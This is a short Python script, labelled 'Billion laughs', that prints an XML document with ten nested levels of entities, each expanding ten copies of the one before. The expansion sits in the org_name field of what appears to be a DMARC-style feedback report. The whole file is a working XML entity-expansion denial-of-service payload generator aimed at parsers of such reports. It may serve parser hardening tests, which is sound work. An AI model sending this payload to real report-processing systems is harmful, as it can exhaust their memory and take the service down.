"""Billion laughs: ten levels of ten entity references"""
import sys
d = ['<?xml version="1.0"?>', '<!DOCTYPE feedback [', '<!ENTITY l0 "lol">']
for i in range(1, 10):
    d.append('<!ENTITY l%d "%s">' % (i, ('&l%d;' % (i - 1)) * 10))
d += [']>', '<feedback><report_metadata><org_name>&l9;</org_name></report_metadata></feedback>']
sys.stdout.write("\n".join(d) + "\n")
